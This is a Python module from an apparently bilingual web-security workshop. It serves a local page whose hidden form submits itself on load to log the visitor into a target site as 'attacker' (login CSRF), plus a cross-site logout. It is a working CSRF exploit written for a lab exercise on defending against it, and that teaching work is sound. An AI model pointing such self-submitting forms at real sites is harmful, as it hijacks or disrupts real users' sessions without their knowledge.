"""An attacker's page, on another site: python -m workshop.attacker [--target URL] [--port P]

It serves, on http://127.0.0.1:PORT/, a page that posts the workshop's login
form to the step at --target (http://localhost:4000 by default) as soon as it
opens: a login CSRF. localhost and 127.0.0.1 are two sites to a browser, so this
is a cross-site POST, and SameSite=Lax keeps the step's cookie off it. The step
sees a first login, and its Set-Cookie, the attacker's session, lands in the
victim's browser: the next click on 登录 answers 欢迎，attacker. Exercise 6 is
to make the step refuse it. /logout on this page posts a cross-site logout.

It serves this machine only (127.0.0.1), posts nowhere but the target, and
Ctrl+C stops it.
"""

import argparse
import html
import sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from workshop.catalogue import language

ATTACKER = {"usr": "attacker", "psd": "attacker-pw"}

PAGE = """<!DOCTYPE html>
<html lang="{lang}"><head><meta charset="utf-8"><title>{title}</title>
<link rel="icon" href="data:,"></head>
<body>
<h1>{title}</h1>
<p>{explain}</p>
<form id="attack" method="post" action="{action}">
{fields}
<button type="submit">{button}</button>
</form>
<script>document.getElementById('attack').submit();</script>
</body></html>
"""

TEXT = {
    "en": {"login": ("A page on another site", "This page posts the workshop's login form to {target} "
                     "as the user attacker, as soon as it opens. Go back to {target} and click 登录."),
           "logout": ("Another site logs you out", "This page posts to {target}/logout as soon as it "
                      "opens. Go back to {target} and click 登录."),
           "button": "Send it again"},
    "zh": {"login": ("另一个网站上的页面", "这个页面一打开，就以用户 attacker 的身份把工作坊的登录表单提交到 {target}。"
                     "回到 {target}，点 登录 看看。"),
           "logout": ("另一个网站让你退出登录", "这个页面一打开，就向 {target}/logout 发出提交。回到 {target}，点 登录 看看。"),
           "button": "再提交一次"},
}


def page(kind, target, lang):
    """The attacker's page: a form that submits itself to the target, cross-site."""
    title, explain = TEXT[lang][kind]
    fields = "".join(f'<input type="hidden" name="{name}" value="{html.escape(value)}">'
                     for name, value in ATTACKER.items()) if kind == "login" else ""
    return PAGE.format(lang=lang, title=html.escape(title), fields=fields,
                       explain=html.escape(explain.format(target=target)),
                       action=html.escape(f"{target}/{kind}"), button=TEXT[lang]["button"])


def handler_for(target, lang):
    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self):
            kind = {"/": "login", "/logout": "logout"}.get(self.path)
            if kind is None:
                self.send_error(404)
                return
            body = page(kind, target, lang).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format, *args):  # one short line per page served
            print(f"attacker's page: {self.command} {self.path}", flush=True)
    return Attacker


def main(argv=None):
    parser = argparse.ArgumentParser(prog="python -m workshop.attacker",
                                     description="An attacker's page on another site: a login CSRF.")
    parser.add_argument("--target", default="http://localhost:4000",
                        help="the step to attack (default: http://localhost:4000)")
    parser.add_argument("--port", type=int, default=4100)
    parser.add_argument("--lang", choices=["zh", "en"], help="default: from your locale")
    args = parser.parse_args(argv)
    target = args.target.rstrip("/")
    server = listen_or_exit("127.0.0.1", args.port, handler_for(target, language(args.lang)))
    print(f"Open http://127.0.0.1:{args.port}/ : the attacker's page, on another site. It posts a "
          f"login to {target} (/logout: a logout). Ctrl+C to stop.", flush=True)
    serve_until_ctrl_c(server)


def listen_or_exit(host, port, handler):
    """A threaded HTTP server on host:port, or an exit with one line that says why not.

    http.server is enough here: the attacker's page listens on 127.0.0.1 only, for one
    browser, the learner's own."""
    try:
        server = ThreadingHTTPServer((host, port), handler)
    except OSError as exc:
        sys.exit(f"Cannot listen on {host}:{port}: {exc.strerror}. Pick another --port.")
    server.daemon_threads = True  # Ctrl+C does not wait for a client that holds a connection
    return server


def serve_until_ctrl_c(server):
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        server.server_close()


if __name__ == "__main__":
    main()
